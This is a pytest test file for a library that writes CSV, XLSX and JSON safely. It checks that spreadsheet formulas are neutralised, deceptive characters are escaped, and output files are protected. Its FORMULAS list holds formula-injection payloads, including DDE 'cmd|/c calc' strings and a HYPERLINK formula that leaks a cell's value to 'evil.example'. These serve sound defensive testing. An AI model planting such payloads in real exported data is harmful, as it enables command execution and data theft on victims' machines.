"""Files that are written: a spreadsheet that opens one runs nothing of it, and finds the values that were in the table."""
# ruff: noqa: DTZ001 - cells without a time zone

from __future__ import annotations

import csv
import datetime
import importlib
import io
import json
import math
import os
import random
import stat
import unicodedata
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from rlm_secure.agents.tables import Table, diff, read, write
from rlm_secure.agents.tables.write import check
from rlm_secure.errors import MissingExtra, TableError
from rlm_secure.inert import inert
from tests.local.kernels import in_child

MOMENT = datetime.datetime(2024, 1, 2, 3, 4, 5)
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000@x", "'=1", '"=1', "\"' =1",
    "\u200d=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\u22121", "\tx", "\rx", "\nx", "\x0b=1", "\x85=1", "\ufe661", "\ufb291",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!A0", "\u2018=1", "\u201c=1", "`=1",
]  # fmt: skip
#: These begin with a character that is written as its number, and so with a backslash: no sign is at the beginning.
NUMBERED = ["\u200b=1", "\ufeff=1", "\u202e=1", "\u2060+1", "\x00=1", "\x01=1", "\x7f@x", "\ud800=1", "\uffff=1"]
HARMLESS = ["a=b", "1", "007", "", "x-y", "a@b.example", "https://evil.example/", "a;=1+1", "a\t=1", 'x"y', "x\ny", "é", "مرحبا", "👨\u200d👩", "#REF!", "TRUE"]


def fields(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))


def written(folder: Path, table: Table, name: str, **options) -> tuple[Path, tuple[str, ...]]:
    path = folder / name
    return path, write(table, path, **options)


# -- CSV --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_csv_is_a_formula(tmp_path: Path, text: str) -> None:
    path, notes = written(tmp_path, Table({text: [text], "n": [1]}), "a.csv")
    (name, _), (cell, _) = fields(path)
    assert name == cell and cell.startswith("'")
    assert any("apostrophe" in note for note in notes)


def test_every_character_that_stands_for_a_sign_counts_as_one(tmp_path: Path) -> None:
    signs = [each for each in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", each)[:1] in tuple("=+-@")]
    assert len(signs) > 12
    path, _ = written(tmp_path, Table({"a": [f"{each}1" for each in signs]}), "a.csv")
    assert [field for (field,) in fields(path)[1:] if not field.startswith("'")] == []


@pytest.mark.parametrize("text", NUMBERED)
def test_a_character_that_hides_before_a_sign_is_written_as_its_number(tmp_path: Path, text: str) -> None:
    path, notes = written(tmp_path, Table({text: [text], "n": [1]}), "a.csv")
    (name, _), (cell, _) = fields(path)
    assert name == cell and cell.startswith("\\") and cell.endswith(text[1:])
    assert any("as their numbers" in note for note in notes)


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_of_a_csv_stay_as_they_are(tmp_path: Path, text: str) -> None:
    path, notes = written(tmp_path, Table({"a": [text], "n": [1]}), "a.csv")
    assert fields(path)[1] == [text, "1"] and notes == ()


def test_every_text_of_a_csv_is_quoted(tmp_path: Path) -> None:
    path, _ = written(tmp_path, Table({"a": ["x;=1+1", 'y"\r\n=1', None]}), "a.csv")
    assert path.read_bytes() == b'"a"\r\n"x;=1+1"\r\n"y""\\r\n=1"\r\n""\r\n'


def test_numbers_of_a_csv_are_numbers(tmp_path: Path) -> None:
    row = {
        "int": -5, "float": -1.5, "bool": True, "decimal": Decimal("-1.10"), "none": None, "nan": math.nan, "inf": -math.inf, "day": datetime.date(2024, 1, 2),
        "span": -datetime.timedelta(1), "bytes": b"=1", "long": 10**2000, "at": MOMENT, "dnan": Decimal("NaN"), "dinf": Decimal("-Infinity"), "no": False,
    }  # fmt: skip
    path, notes = written(tmp_path, Table.of([row]), "a.csv")
    assert path.read_text().split("\n")[1].split(",")[:8] == ["-5", "-1.5", "TRUE", "-1.10", "", "", '"\'-inf"', '"2024-01-02"']
    assert fields(path)[1][8:] == ["'-1 day, 0:00:00", "0x3d31", hex(10**2000), "2024-01-02T03:04:05", "", "'-Infinity", "FALSE"]
    assert "numbers that are none (NaN) are written as empty cells (2)" in notes


def test_controls_of_a_csv_are_written_as_their_numbers(tmp_path: Path) -> None:
    path, notes = written(tmp_path, Table({"a\u202eb": ["x\x00\x1b[2J\u200b\ufeff\u2028\ud800\uffff\x85y"]}), "a.csv")
    assert fields(path) == [["a\\u202eb"], ["x\\x00\\x1b[2J\\u200b\\ufeff\\u2028\\ud800\\uffff\\x85y"]]
    assert notes == ("control characters and characters that deceive are written as their numbers (2)",)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
@example(["'="])
def test_whatever_a_text_is_a_csv_has_it_in_one_inert_field(tmp_path: Path, texts: list[str]) -> None:
    path, _ = written(tmp_path, Table({"a": texts, "n": [1] * len(texts)}), "a.csv", overwrite=True)
    for text, (field, number) in zip(texts, fields(path)[1:], strict=True):
        assert number == "1"
        said = inert(text).replace("\uffff", "\\uffff").replace("\ufffe", "\\ufffe")
        assert field in (said, f"'{said}")  # behind a quote, also one of its own: it is read again as it was
        assert not field.lstrip().startswith(("=", "+", "-", "@")) and not field.startswith(("\t", "\r", "\n"))


def test_a_csv_that_is_read_again_is_the_same_table(tmp_path: Path) -> None:
    drawn = random.Random(1)

    def column(make) -> list:
        return [make() if drawn.random() < 0.8 else None for _ in range(2000)]

    table = Table({
        "int": column(lambda: drawn.randint(-(10**30), 10**30)), "float": column(lambda: drawn.uniform(-1, 1) * 10 ** drawn.randint(-300, 300)),
        "text": column(lambda: drawn.choice("ab ,;\"'é") + "".join(drawn.choices("ab ,;\"\n'é", k=drawn.randint(0, 8))) + "."), "bool": column(lambda: drawn.random() < 0.5),
        "zip": column(lambda: f"0{drawn.randint(0, 99)}"), "zero": [-0.0] * 2000, "last": [1] * 2000,
    })  # fmt: skip
    path, notes = written(tmp_path, table, "a.csv")
    assert notes == ()
    assert not diff(table, read(path)), diff(table, read(path)).changes[:5]


# -- XLSX -------------------------------------------------------------------------------------------------


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tmp_path: Path) -> None:
    openpyxl = importlib.import_module("openpyxl")
    texts = [*FORMULAS, *NUMBERED, *HARMLESS]
    table = Table({"=name": texts, "@x": texts, "n": [-5] * len(texts)})
    path, _ = written(tmp_path, table, "a.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 3 * (len(texts) + 1)
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert all(cell.hyperlink is None for cell in cells)
    assert [cell.value for cell in sheet["C"][1:]] == [-5] * len(texts)
    for text, cell in zip(texts, sheet["A"][1:], strict=True):
        assert cell.quotePrefix == (text in FORMULAS), text
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
        assert not any("external" in name.lower() or "vba" in name.lower() for name in archive.namelist())
    assert b"<f>" not in xml and b"<f " not in xml and b"<hyperlink" not in xml
    again = read(path)
    assert again.names[0] == "=name"
    for text, cell in zip(texts, again.columns["=name"], strict=True):
        if text.isprintable() and text.isascii():
            assert cell == (text or None)


def test_values_of_a_workbook_are_kept_exactly_or_are_text(tmp_path: Path) -> None:
    openpyxl = importlib.import_module("openpyxl")
    kept = {
        "int": 2**53, "float": 1.5, "bool": True, "none": None, "at": MOMENT, "time": datetime.time(3, 4), "decimal": Decimal("1.10"),
    }  # fmt: skip
    text = {
        "long": (2**53 + 1, "9007199254740993"), "inf": (math.inf, "inf"), "zone": (MOMENT.replace(tzinfo=datetime.UTC), "2024-01-02T03:04:05+00:00"),
        "old": (datetime.date(1800, 1, 2), "1800-01-02"), "digits": (Decimal("1." + "1" * 20), "1." + "1" * 20), "bytes": (b"\0", "0x00"),
        "span": (-datetime.timedelta(1), "-1 day, 0:00:00"), "huge": (Decimal("1E+999"), "1E+999"),
    }  # fmt: skip
    path, notes = written(tmp_path, Table.of([kept | {name: value for name, (value, _) in text.items()} | {"nan": math.nan, "day": datetime.date(2024, 1, 2)}]), "a.xlsx")
    sheet = openpyxl.load_workbook(path).active
    found = dict(zip([cell.value for cell in sheet[1]], [cell.value for cell in sheet[2]], strict=True))
    assert found == kept | {name: said for name, (_, said) in text.items()} | {"nan": None, "day": datetime.datetime(2024, 1, 2), "decimal": 1.1}
    assert any("does not keep exactly" in note and "(8)" in note for note in notes) and any("NaN" in note for note in notes)


def test_long_texts_and_characters_that_xml_does_not_have(tmp_path: Path) -> None:
    openpyxl = importlib.import_module("openpyxl")
    path, notes = written(tmp_path, Table({"a": ["x" * 1_000_000, "\x00\ufffe\ud800\x0b", "_x003D_1"]}), "a.xlsx")
    found = [row[0].value for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2)]
    assert found[0] == "x" * 32_764 + "..."
    assert found[1] == "\\x00\\ufffe\\ud800\\v"
    assert found[2] == "_x005F_x003D_1"
    assert "texts of more than 32,767 characters are cut (1)" in notes


def test_a_sheet_has_limits_of_its_own(tmp_path: Path) -> None:
    with pytest.raises(TableError, match="at most 1,048,575 rows and 16,384 columns"):
        write(Table({"a": [None] * 1_048_576}), tmp_path / "a.xlsx")
    assert not (tmp_path / "a.xlsx").exists()


def test_a_workbook_needs_its_package(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util

    monkeypatch.setattr(importlib.util, "find_spec", lambda _name: None)
    with pytest.raises(MissingExtra, match=r"rlm-secure\[tables\]"):
        write(Table({"a": [1]}), tmp_path / "a.xlsx")


# -- JSON -------------------------------------------------------------------------------------------------


def test_rows_as_json(tmp_path: Path) -> None:
    row = {"a": 1, "b": "=\u202e\x00", "c": math.nan, "d": Decimal("1.10"), "e": MOMENT, "f": None, "g": b"\0", "h": 10**2000, "i": math.inf, "j": 1.5}
    path, notes = written(tmp_path, Table.of([row, {}]), "a.json")
    raw = path.read_bytes()
    assert raw.isascii() and b"\x00" not in raw
    first, second = json.loads(raw)
    assert first == row | {"c": None, "d": "1.10", "e": "2024-01-02T03:04:05", "g": "0x00", "h": hex(10**2000), "i": "inf"}
    assert second == dict.fromkeys(row)
    assert len(notes) == 2
    assert json.loads(written(tmp_path, Table({}), "b.json")[0].read_text()) == []


# -- the file ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx", "a.json"])
def test_a_file_is_for_its_owner_and_replaces_nothing_unasked(tmp_path: Path, name: str) -> None:
    table = Table({"a": [1]})
    before = os.umask(0)
    try:
        path, _ = written(tmp_path, table, name, overwrite=True)
    finally:
        os.umask(before)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    kept = path.read_bytes()
    with pytest.raises(TableError, match="exists; name another file, or give overwrite=True"):
        write(Table({"a": [2]}), path)
    assert path.read_bytes() == kept
    write(Table({"b": ["other"]}), path, overwrite=True)
    assert path.read_bytes() != kept and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert os.listdir(tmp_path) == [name]


def test_what_is_no_place_for_a_file(tmp_path: Path) -> None:
    table = Table({"a": [1]})
    (tmp_path / "link.csv").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "inside").symlink_to(tmp_path)
    os.mkfifo(tmp_path / "fifo.csv")
    for name in ("link.csv", "inside/a.csv", "fifo.csv", "nowhere/a.csv", "a\0.csv"):
        for overwrite in (False, True):
            with pytest.raises(TableError) as raised:
                write(table, f"{tmp_path}/{name}", overwrite=overwrite)
            assert "cannot be written: " in str(raised.value) or "exists; " in str(raised.value)
    with pytest.raises(TableError, match=r"name it \.csv, \.xlsx or \.json"):
        write(table, tmp_path / "a.xls")
    assert not (tmp_path / "elsewhere").exists() and sorted(os.listdir(tmp_path)) == ["fifo.csv", "inside", "link.csv"]


def test_a_place_for_a_file_is_looked_at_before(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "old.csv").write_text("kept")
    (tmp_path / "link.csv").symlink_to("nowhere.csv")
    (tmp_path / "folder").symlink_to(tmp_path)
    for name, said in {
        "x.txt": "name it .csv, .xlsx or .json",
        "old.csv": "old.csv exists; name another file, or delete it first",
        "link.csv": "link.csv exists",
        "none/x.csv": "No such file or directory",
        "folder/x.csv": "a symbolic link",
        "old.csv/x.csv": "Not a directory",
        "x\0.csv": "holds a NUL",
    }.items():
        with pytest.raises(TableError, match=said):
            check(name)
    check("new.csv")
    check(tmp_path / "new.XLSX")
    assert sorted(os.listdir()) == ["folder", "link.csv", "old.csv"]
    monkeypatch.setattr("importlib.util.find_spec", lambda _name: None)
    with pytest.raises(MissingExtra):
        check("new.xlsx")


def test_a_folder_in_which_nothing_may_be_written_is_told_before(tmp_path: Path) -> None:
    tmp_path.chmod(0o555)

    def body() -> None:
        if os.geteuid() == 0:
            os.setresuid(65_534, 65_534, 65_534)
        check("new.csv")

    here = os.open(os.curdir, os.O_PATH)
    os.chdir(tmp_path)  # what is above it is closed to everybody else
    try:
        assert in_child(body) == repr(TableError("new.csv cannot be written: Permission denied; name another file"))
    finally:
        os.fchdir(here)
        os.close(here)


def test_no_part_of_a_file_is_left_behind(tmp_path: Path) -> None:
    import resource
    import signal

    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    old = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, hard))
    try:
        with pytest.raises(TableError, match="cannot be written: File too large"):
            write(Table({"a": range(10_000)}), tmp_path / "a.csv")
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
        signal.signal(signal.SIGXFSZ, old)
    assert os.listdir(tmp_path) == []
